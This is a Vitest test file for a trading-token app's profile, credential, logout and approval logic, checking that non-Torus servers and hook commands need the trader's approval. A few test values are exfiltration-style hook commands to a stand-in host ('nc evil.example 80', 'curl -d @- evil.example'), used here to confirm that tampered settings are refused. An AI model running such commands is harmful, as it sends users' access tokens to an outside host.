import { describe, it, expect, beforeEach, afterEach, vi } from 'vitest';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createCore, type Core } from '../main/core/use-cases/core.js';
import { addProfile, forgetProfile, switchProfile, updateProfile } from '../main/core/use-cases/profiles.js';
import { saveCredentials, setUpProfile } from '../main/core/use-cases/credentials.js';
import { approveAll, recordApprovals, requireApprovedValue } from '../main/core/use-cases/approvals.js';
import { refresh } from '../main/core/use-cases/tokens.js';
import { TorusError } from '../main/core/errors.js';
import type { Approver, SensitiveChange } from '../main/core/ports.js';
import type { Profile } from '../main/core/domain/settings-schema.js';
import { DEFAULT_BASE_URL, DEFAULT_TOTP_BASE_URL } from '../main/core/domain/base-url.js';
import { startSimulator, type TorusSimulator } from '../scripts/simulator/torus-simulator.js';
import { distinctiveCredentials, rejectionOf, tempDir } from './helpers/core-fixtures.js';

/**
 * Profiles and credentials, as the app's Settings view and the CLI's login, profiles and settings
 * commands use them: what is checked before anything is asked or written, which changes need the
 * trader's approval, and what logout and removal leave behind. Real settings file, real
 * (throwaway) keychain, real HTTP to the simulator for the first token of a new profile.
 */
const TORUS = DEFAULT_BASE_URL;
const TOTP_SECRET = 'JBSWY3DPEHPK3PXPJBSWY3DP';

let dir: ReturnType<typeof tempDir>;
let core: Core;
let sim: TorusSimulator;
let creds: { apiKey: string; apiSecret: string };
let asked: Array<{ profileName: string | null; changes: SensitiveChange[] }>;
let answer: boolean | (() => Promise<boolean>);
const trusting = { trustLoopback: true };
const untrusting = { trustLoopback: false };

/** The trader's side of the approval dialog: records what was asked, answers as told. */
const approver: Approver = {
  approve(request) {
    asked.push(request);
    return typeof answer === 'function' ? answer() : Promise.resolve(answer);
  },
};

beforeEach(async () => {
  dir = tempDir('torus-profiles');
  creds = distinctiveCredentials();
  sim = await startSimulator({ ...creds, totpSecret: TOTP_SECRET });
  core = await createCore({ configDir: dir.path, policy: trusting });
  asked = [];
  answer = true;
});

afterEach(async () => {
  for (const p of core.settings.read().profiles) await core.vault.deleteProfile(p.id);
  await sim.close();
  dir.remove();
});

const settings = () => core.settings.read();
const profileNamed = (name: string): Profile => settings().profiles.find((p) => p.name === name)!;

async function torusError(run: () => Promise<unknown>): Promise<TorusError> {
  const error = await rejectionOf(run);
  expect(error).toBeInstanceOf(TorusError);
  return error as TorusError;
}

describe('adding a profile', () => {
  it('the new profile gets an id from its name, becomes the active one, and listeners hear of it', async () => {
    const heard: Array<string | null> = [];
    core.onChange((id) => heard.push(id));
    const main = await addProfile(core, { name: 'Main Account', mode: 'request-token' }, approver, untrusting);
    const algo = await addProfile(core, { name: 'Algo', mode: 'totp' }, approver, untrusting);
    expect(main).toMatchObject({ id: 'main-account', name: 'Main Account', mode: 'request-token', baseUrl: TORUS });
    expect(algo).toMatchObject({ id: 'algo', mode: 'totp' });
    expect(settings().activeProfileId).toBe('algo');
    expect(heard).toEqual(['main-account', 'algo']);
    expect(asked).toEqual([]); // Torus's own server needs no approval
  });

  it('a name already taken (in any case) is refused, and nothing is added', async () => {
    await addProfile(core, { name: 'Main', mode: 'request-token' }, approver, untrusting);
    const error = await torusError(() => addProfile(core, { name: 'MAIN', mode: 'totp' }, approver, untrusting));
    expect(error).toMatchObject({ kind: 'invalid-input', message: 'A profile named "MAIN" already exists.' });
    expect(settings().profiles).toHaveLength(1);
  });

  it('a server that is not Torus needs approval first; a refusal adds nothing', async () => {
    answer = false;
    const error = await torusError(() => addProfile(core, { name: 'Paper', mode: 'request-token', baseUrl: `${sim.url}/` }, approver, untrusting));
    expect(error).toMatchObject({ kind: 'invalid-input', message: 'The change was not approved, so nothing was changed.' });
    expect(asked).toEqual([
      {
        profileName: 'Paper',
        changes: [
          {
            kind: 'base-url',
            value: sim.url,
            description: `Send your API key, API secret and request token to ${sim.url}, which is not a Torus server.`,
          },
        ],
      },
    ]);
    expect(settings().profiles).toEqual([]);
  });

  it('an approved server is remembered, so the same URL is used later without asking again', async () => {
    const paper = await addProfile(core, { name: 'Paper', mode: 'totp', baseUrl: sim.url, totpBaseUrl: sim.url }, approver, untrusting);
    expect(asked[0]!.changes.map((c) => c.kind)).toEqual(['base-url', 'totp-base-url']);
    expect(asked[0]!.changes[1]!.description).toBe(`Send your API key and a TOTP code to ${sim.url}, which is not a Torus server.`);
    const untrustingCore = await createCore({ configDir: dir.path, policy: untrusting });
    await expect(requireApprovedValue(untrustingCore, paper, 'base-url', sim.url)).resolves.toBeUndefined();
    await expect(requireApprovedValue(untrustingCore, paper, 'totp-base-url', sim.url)).resolves.toBeUndefined();
  });

  it('loopback counts as trusted only where the process says so (the simulator in the CLI and in development)', async () => {
    await addProfile(core, { name: 'Sim', mode: 'request-token', baseUrl: sim.url }, approver, trusting);
    expect(asked).toEqual([]);
    await addProfile(core, { name: 'Sim 2', mode: 'request-token', baseUrl: sim.url }, approver, untrusting);
    expect(asked).toHaveLength(1);
  });
});

describe('changing a profile', () => {
  let main: Profile;
  beforeEach(async () => {
    main = await addProfile(core, { name: 'Main', mode: 'request-token' }, approver, untrusting);
    await addProfile(core, { name: 'Algo', mode: 'totp' }, approver, untrusting);
  });

  it.each([
    [{ name: 'algo' }, 'A profile named "algo" already exists.'],
    [{ name: '   ' }, 'The profile name is empty.'],
    [{ readyBy: '8:45am' }, 'The ready-by time must be HH:MM (24-hour), for example 08:45.'],
    [{ redirectOrigin: 'ftp://example.com/cb' }, 'The redirect address must be an http(s) address such as https://example.com/torus/callback.'],
    [{ exportFilePath: 'token.txt' }, 'The token file path must be a full path (for example ~/torus/token.txt).'],
    [{ baseUrl: 'not a url' }, expect.stringContaining('Base URL')],
    [{ totpBaseUrl: 'not a url' }, expect.stringContaining('TOTP base URL')],
  ])('%o is refused before anything is asked or written', async (patch, message) => {
    const before = readFileSync(core.settings.path, 'utf8');
    const error = await torusError(() => updateProfile(core, main.id, { ...patch, exportHookCommand: 'cat > /tmp/x' }, approver, untrusting));
    expect(error.kind).toBe('invalid-input');
    expect(error.message).toEqual(message);
    expect(asked).toEqual([]);
    expect(readFileSync(core.settings.path, 'utf8')).toBe(before);
  });

  it('renaming a profile to its own name in another case is allowed', async () => {
    const renamed = await updateProfile(core, main.id, { name: 'MAIN' }, approver, untrusting);
    expect(renamed).toMatchObject({ id: main.id, name: 'MAIN' });
    expect(profileNamed('MAIN').id).toBe(main.id);
  });

  it('every field is saved as given (a redirect URL keeps only its origin) and the result is returned', async () => {
    const file = join(dir.path, 'bots', 'token.txt');
    const updated = await updateProfile(
      core,
      main.id,
      {
        name: 'Main 2',
        mode: 'totp',
        exportFilePath: `  ${file}  `,
        exportHookCommand: '  cat > /dev/null ',
        readyBy: '09:10',
        signInAtReadyBy: true,
        redirectOrigin: 'https://trader.example/torus/callback?x=1',
      },
      approver,
      untrusting,
    );
    const saved = settings().profiles.find((p) => p.id === main.id)!;
    expect(saved).toEqual(updated);
    expect(saved).toMatchObject({
      name: 'Main 2',
      mode: 'totp',
      export: { filePath: file, hookCommand: 'cat > /dev/null' },
      readyBy: '09:10',
      signInAtReadyBy: true,
      redirectOrigin: 'https://trader.example',
    });
    await updateProfile(core, main.id, { redirectOrigin: null, exportFilePath: null, exportHookCommand: '' }, approver, untrusting);
    expect(settings().profiles.find((p) => p.id === main.id)).toMatchObject({ redirectOrigin: null, export: { filePath: null, hookCommand: null } });
  });

  it('a token file and a hook are approved together, in one question that shows them verbatim; unchanged values are not asked again', async () => {
    const file = join(dir.path, 'token.txt');
    await updateProfile(core, main.id, { exportFilePath: file, exportHookCommand: 'python3 bot.py --token-stdin' }, approver, untrusting);
    expect(asked).toEqual([
      {
        profileName: 'Main',
        changes: [
          { kind: 'export-file', value: file, description: `Write the access token to the file ${file} after each refresh.` },
          {
            kind: 'hook-command',
            value: 'python3 bot.py --token-stdin',
            description: 'Run this command after each refresh, with the token on its input: python3 bot.py --token-stdin',
          },
        ],
      },
    ]);
    const profile = profileNamed('Main');
    await expect(requireApprovedValue(core, profile, 'export-file', file)).resolves.toBeUndefined();
    await expect(requireApprovedValue(core, profile, 'hook-command', 'python3 bot.py --token-stdin')).resolves.toBeUndefined();
    await updateProfile(core, main.id, { exportFilePath: file, exportHookCommand: 'python3 bot.py --token-stdin', readyBy: '09:00' }, approver, untrusting);
    expect(asked).toHaveLength(1);
  });

  it('a refused approval changes nothing, not even the harmless fields of the same change', async () => {
    answer = false;
    const before = readFileSync(core.settings.path, 'utf8');
    await torusError(() => updateProfile(core, main.id, { readyBy: '07:00', exportHookCommand: 'nc evil.example 80' }, approver, untrusting));
    expect(readFileSync(core.settings.path, 'utf8')).toBe(before);
    await expect(requireApprovedValue(core, main, 'hook-command', 'nc evil.example 80')).rejects.toThrow(/has not been approved/);
  });

  it('a new server or mode forgets what Torus refused (a different credential set); other changes keep the refusal', async () => {
    const refusal = { credentialSet: '0123456789abcdef', at: 1, message: 'Invalid API key.', needsSignIn: false };
    const refuse = () => core.settings.update((d) => void (d.refusals[main.id] = refusal));
    await refuse();
    await updateProfile(core, main.id, { readyBy: '09:00', signInAtReadyBy: true, name: 'Main' }, approver, untrusting);
    expect(settings().refusals[main.id]).toEqual(refusal);
    for (const patch of [{ mode: 'totp' as const }, { baseUrl: TORUS }, { totpBaseUrl: TORUS }]) {
      await refuse();
      await updateProfile(core, main.id, patch, approver, untrusting);
      expect(settings().refusals[main.id], JSON.stringify(patch)).toBeUndefined();
    }
  });

  it('a profile removed by another process while the trader was approving is not brought back', async () => {
    answer = async () => {
      await core.settings.update((d) => void (d.profiles = d.profiles.filter((p) => p.id !== main.id)));
      return true;
    };
    const error = await torusError(() => updateProfile(core, main.id, { exportHookCommand: 'cat' }, approver, untrusting));
    expect(error).toMatchObject({ kind: 'not-configured', message: 'Profile "Main" was removed meanwhile; nothing was changed.' });
    expect(settings().profiles.map((p) => p.name)).toEqual(['Algo']);
  });

  it('switching makes another profile the active one; an unknown profile is an error', async () => {
    const heard: Array<string | null> = [];
    core.onChange((id) => heard.push(id));
    await switchProfile(core, main.id);
    expect(settings().activeProfileId).toBe(main.id);
    expect(heard).toEqual([null]);
    const error = await torusError(() => switchProfile(core, 'nobody'));
    expect(error.kind).toBe('not-configured');
    expect(settings().activeProfileId).toBe(main.id);
  });
});

describe('credentials are checked whole, then written all or nothing', () => {
  let main: Profile;
  beforeEach(async () => {
    main = await addProfile(core, { name: 'Main', mode: 'totp' }, approver, untrusting);
  });

  it('values are saved as they would be used: trimmed, and a TOTP secret as authenticator apps show it is normalised', async () => {
    await saveCredentials(core, main.id, { apiKey: `  ${creds.apiKey}\n`, apiSecret: creds.apiSecret, totpSecret: 'jbsw y3dp ehpk 3pxp jbsw y3dp' });
    expect(await core.vault.get(main.id, 'apiKey')).toBe(creds.apiKey);
    expect(await core.vault.get(main.id, 'apiSecret')).toBe(creds.apiSecret);
    expect(await core.vault.get(main.id, 'totpSecret')).toBe(TOTP_SECRET);
  });

  it('one bad field saves none of them', async () => {
    await saveCredentials(core, main.id, { apiKey: 'old-key' });
    const error = await torusError(() => saveCredentials(core, main.id, { apiKey: 'new-key', totpSecret: 'not base32!' }));
    expect(error.message).toMatch(/^The TOTP secret must be the base32 key/);
    expect(await core.vault.get(main.id, 'apiKey')).toBe('old-key');
    const spaced = await torusError(() => saveCredentials(core, main.id, { apiKey: 'new-key', apiSecret: 'two words' }));
    expect(spaced.message).toBe('The API secret contains spaces or control characters.');
    expect(await core.vault.get(main.id, 'apiKey')).toBe('old-key');
  });

  it('nothing to save is said plainly', async () => {
    const error = await torusError(() => saveCredentials(core, main.id, {}));
    expect(error).toMatchObject({ kind: 'invalid-input', message: 'Nothing to save.' });
  });

  it('new credentials clear what Torus refused, so the next refresh may try them', async () => {
    await core.settings.update((d) => void (d.refusals[main.id] = { credentialSet: '0123456789abcdef', at: 1, message: 'Invalid.', needsSignIn: false }));
    await saveCredentials(core, main.id, { apiSecret: creds.apiSecret });
    expect(settings().refusals[main.id]).toBeUndefined();
  });
});

describe('setting up a profile in one go (the CLI login)', () => {
  const input = (over: Partial<Parameters<typeof setUpProfile>[1]> = {}) => ({
    name: 'Main',
    mode: 'request-token' as const,
    baseUrl: sim.url,
    ...creds,
    secret: sim.issueRequestToken(),
    ...over,
  });

  it('saves the credentials and the profile, then gets the first token at once', async () => {
    const result = await setUpProfile(core, input(), approver, trusting);
    expect(result.refreshError).toBeNull();
    expect(result.profile).toMatchObject({ id: 'main', name: 'Main', mode: 'request-token', baseUrl: sim.url, totpBaseUrl: DEFAULT_TOTP_BASE_URL });
    expect((await core.vault.getToken('main'))!.token).toBe(result.refreshed!.token);
    expect(await core.vault.get('main', 'apiKey')).toBe(creds.apiKey);
    expect(sim.requestCount('generate')).toBe(1);
  });

  it('the request token may be pasted as the whole redirect address', async () => {
    const requestToken = sim.issueRequestToken();
    const result = await setUpProfile(core, input({ secret: `https://trader.example/cb?requestToken=${requestToken}&state=1` }), approver, trusting);
    expect(result.refreshError).toBeNull();
    expect(sim.requestCount('generate')).toBe(1);
  });

  it('a TOTP profile with one server uses it for the TOTP call too', async () => {
    const result = await setUpProfile(core, input({ mode: 'totp', secret: TOTP_SECRET }), approver, trusting);
    expect(result.profile).toMatchObject({ mode: 'totp', baseUrl: sim.url, totpBaseUrl: sim.url });
    expect(result.refreshError).toBeNull();
    expect(await core.vault.get('main', 'totpSecret')).toBe(TOTP_SECRET);
    expect(await core.vault.get('main', 'requestToken')).toBeNull();
  });

  it.each([
    [{ apiKey: '' }, 'The API key is empty.'],
    [{ apiSecret: 'a b' }, 'The API secret contains spaces or control characters.'],
    [{ mode: 'totp' as const, secret: 'short' }, expect.stringMatching(/^The TOTP secret must be the base32 key/)],
    [{ baseUrl: 'ftp://example.com' }, expect.stringContaining('Base URL')],
  ])('%o: nothing is saved, neither the profile nor a secret', async (over, message) => {
    const error = await torusError(() => setUpProfile(core, input(over), approver, trusting));
    expect(error.message).toEqual(message);
    expect(settings().profiles).toEqual([]);
    expect(await core.vault.get('main', 'apiSecret')).toBeNull();
  });

  it('a refused approval of the server saves nothing', async () => {
    answer = false;
    await torusError(() => setUpProfile(core, input(), approver, untrusting));
    expect(asked[0]!.profileName).toBe('Main');
    expect(settings().profiles).toEqual([]);
    expect(await core.vault.get('main', 'apiKey')).toBeNull();
  });

  it('a failing first refresh keeps the credentials and the profile, and says why', async () => {
    const result = await setUpProfile(core, input({ apiSecret: 'wrong-secret' }), approver, trusting);
    expect(result.refreshed).toBeNull();
    expect(result.refreshError!.kind).toBe('rejected');
    expect(settings().profiles.map((p) => p.id)).toEqual(['main']);
    expect(await core.vault.get('main', 'apiSecret')).toBe('wrong-secret');
  });

  it('setting up an existing profile again replaces its secrets, keeps its id and forgets the old refusal', async () => {
    await setUpProfile(core, input({ apiSecret: 'wrong-secret' }), approver, trusting);
    expect(settings().refusals['main']).toBeDefined();
    const again = await setUpProfile(core, input({ profileId: 'main', name: 'ignored' }), approver, trusting);
    expect(again.refreshError).toBeNull();
    expect(again.profile).toMatchObject({ id: 'main', name: 'Main' });
    expect(settings().profiles).toHaveLength(1);
    expect(settings().refusals['main']).toBeUndefined();
    expect(await core.vault.get('main', 'apiSecret')).toBe(creds.apiSecret);
  });

  it('a new profile that cannot be written to a full disk leaves no secret in the keychain', async () => {
    vi.spyOn(core.settings, 'update').mockRejectedValueOnce(new TorusError('filesystem', 'Could not write the settings folder: no space left (ENOSPC).'));
    const error = await torusError(() => setUpProfile(core, input(), approver, trusting));
    expect(error.kind).toBe('filesystem');
    expect(await core.vault.get('main', 'apiKey')).toBeNull();
    expect(await core.vault.get('main', 'requestToken')).toBeNull();
  });
});

describe('logout and removal', () => {
  let main: Profile;
  let file: string;
  beforeEach(async () => {
    file = join(dir.path, 'token.txt');
    const result = await setUpProfile(
      core,
      { name: 'Main', mode: 'request-token', baseUrl: sim.url, ...creds, secret: sim.issueRequestToken() },
      approver,
      trusting,
    );
    main = result.profile;
    await setUpProfile(core, { name: 'Algo', mode: 'totp', baseUrl: sim.url, ...creds, secret: TOTP_SECRET }, approver, trusting);
    await switchProfile(core, main.id);
    await updateProfile(core, main.id, { exportFilePath: file }, approveAll, trusting);
    await core.settings.update((d) => void (d.exportIssues[main.id] = { at: 1, message: 'The hook failed.' }));
    writeFileSync(file, 'token\n');
  });

  it("logout deletes the profile's secrets, its token and everything the settings knew about it, and takes the export back", async () => {
    const { exportErrors, warnings } = await forgetProfile(core, main.id, { remove: false });
    expect(exportErrors).toEqual([]);
    expect(warnings).toEqual([]);
    for (const name of ['apiKey', 'apiSecret', 'requestToken', 'accessToken'] as const) expect(await core.vault.get(main.id, name)).toBeNull();
    const s = settings();
    expect(s.profiles.map((p) => p.id)).toEqual([main.id, 'algo']);
    expect([s.tokens[main.id], s.history[main.id], s.refusals[main.id], s.exportIssues[main.id]]).toEqual([undefined, undefined, undefined, undefined]);
    expect(existsSync(file)).toBe(false);
    expect(await core.vault.get('algo', 'apiKey')).toBe(creds.apiKey); // the other profile is untouched
  });

  it('removal deletes the profile too, and the next profile becomes the active one', async () => {
    await forgetProfile(core, main.id, { remove: true });
    expect(settings().profiles.map((p) => p.id)).toEqual(['algo']);
    expect(settings().activeProfileId).toBe('algo');
    expect(await core.vault.get(main.id, 'apiKey')).toBeNull();
  });

  it('on a full disk, logout still removes the secrets and says what is left behind', async () => {
    vi.spyOn(core.settings, 'update').mockRejectedValueOnce(new TorusError('filesystem', 'Could not write the settings folder: no space left (ENOSPC).'));
    const { warnings } = await forgetProfile(core, main.id, { remove: false });
    expect(warnings).toEqual(["The old token's details could not be removed from the settings: Could not write the settings folder: no space left (ENOSPC)."]);
    expect(await core.vault.get(main.id, 'apiKey')).toBeNull();
  });

  it('on a full disk, removal removes the secrets and fails saying the profile is still listed', async () => {
    vi.spyOn(core.settings, 'update').mockRejectedValueOnce(new TorusError('filesystem', 'Could not write the settings folder: no space left (ENOSPC).'));
    const error = await torusError(() => forgetProfile(core, main.id, { remove: true }));
    expect(error).toMatchObject({
      kind: 'filesystem',
      message:
        'The credentials and token of "Main" were removed from the keychain, but the profile could not be deleted: Could not write the settings folder: no space left (ENOSPC).',
    });
    expect(await core.vault.get(main.id, 'apiKey')).toBeNull();
    expect(settings().profiles.map((p) => p.id)).toContain(main.id);
  });

  it('any other failure while forgetting is not disguised as a full disk', async () => {
    vi.spyOn(core.settings, 'update').mockRejectedValueOnce(new TorusError('invalid-input', 'That setting is not valid.'));
    const error = await torusError(() => forgetProfile(core, main.id, { remove: false }));
    expect(error).toMatchObject({ kind: 'invalid-input', message: 'That setting is not valid.' });
  });

  it('a refresh of the profile already running finishes first, and its token does not outlive the logout', async () => {
    await core.vault.set(main.id, 'requestToken', sim.issueRequestToken());
    const running = refresh(core, main.id, 'manual');
    await forgetProfile(core, main.id, { remove: false });
    await running;
    expect(await core.vault.get(main.id, 'accessToken')).toBeNull();
    expect(settings().tokens[main.id]).toBeUndefined();
  });
});

describe('approvals are remembered in the keychain, out of reach of the settings file', () => {
  let main: Profile;
  beforeEach(async () => {
    main = await addProfile(core, { name: 'Main', mode: 'request-token' }, approver, untrusting);
  });

  it("a value that was never approved is refused with the setting's name and how to approve it", async () => {
    const hook = await torusError(() => requireApprovedValue(core, main, 'hook-command', 'curl -d @- evil.example'));
    expect(hook).toMatchObject({
      kind: 'not-configured',
      message:
        'The hook command of "Main" (curl -d @- evil.example) was changed outside Torus Token and has not been approved, so it was not used. Set it again in Settings (or "torus-token settings set hook …") to approve it.',
    });
    const url = await torusError(() => requireApprovedValue(core, main, 'base-url', 'https://evil.example/api/path?q=1'));
    expect(url.message).toBe(
      'The base URL of "Main" (https://evil.example) was changed outside Torus Token and has not been approved, so it was not used. Set it again in Settings (or "torus-token settings set base-url …") to approve it.',
    );
    const clip = await torusError(() => requireApprovedValue(core, main, 'clipboard-keep', '0'));
    expect(clip.message).toBe(
      'The clipboard setting of "Main" (0) was changed outside Torus Token and has not been approved, so it was not used. Set it again in Settings to approve it.',
    );
  });

  it("Torus's own URLs never need a record; loopback only where the process trusts it", async () => {
    await expect(requireApprovedValue(core, main, 'base-url', TORUS)).resolves.toBeUndefined();
    await expect(requireApprovedValue(core, main, 'totp-base-url', sim.url)).resolves.toBeUndefined();
    const strict = await createCore({ configDir: dir.path, policy: untrusting });
    await expect(requireApprovedValue(strict, main, 'totp-base-url', sim.url)).rejects.toThrow(/TOTP base URL/);
  });

  it('the 32 most recent approvals are kept; an older one has to be approved again', async () => {
    const commands = Array.from({ length: 33 }, (_, n) => `bot --slot ${n}`);
    for (const command of commands) await recordApprovals(core, main.id, [{ kind: 'hook-command', value: command }]);
    await expect(requireApprovedValue(core, main, 'hook-command', commands[0]!)).rejects.toThrow(/has not been approved/);
    for (const command of commands.slice(1)) await expect(requireApprovedValue(core, main, 'hook-command', command)).resolves.toBeUndefined();
    // Approving an old value again moves it to the front instead of listing it twice.
    await recordApprovals(core, main.id, [{ kind: 'hook-command', value: commands[1]! }]);
    expect(JSON.parse((await core.vault.get(main.id, 'approvals'))!)).toHaveLength(32);
  });

  it('an approval is tied to its kind: a path approved as the token file is not an approved hook', async () => {
    await recordApprovals(core, main.id, [{ kind: 'export-file', value: '/tmp/t' }]);
    await expect(requireApprovedValue(core, main, 'hook-command', '/tmp/t')).rejects.toThrow(/has not been approved/);
  });

  it('a damaged approvals entry in the keychain approves nothing (and is not a crash)', async () => {
    for (const raw of ['not json', '{"a":1}', '[1,2,3]']) {
      await core.vault.set(main.id, 'approvals', raw);
      await expect(requireApprovedValue(core, main, 'hook-command', 'cat')).rejects.toThrow(/has not been approved/);
    }
    await recordApprovals(core, main.id, [{ kind: 'hook-command', value: 'cat' }]);
    await expect(requireApprovedValue(core, main, 'hook-command', 'cat')).resolves.toBeUndefined();
  });

  it('empty values and Torus URLs are not recorded', async () => {
    await recordApprovals(core, main.id, [
      { kind: 'hook-command', value: '' },
      { kind: 'export-file', value: null },
      { kind: 'base-url', value: TORUS },
    ]);
    expect(await core.vault.get(main.id, 'approvals')).toBeNull();
  });
});
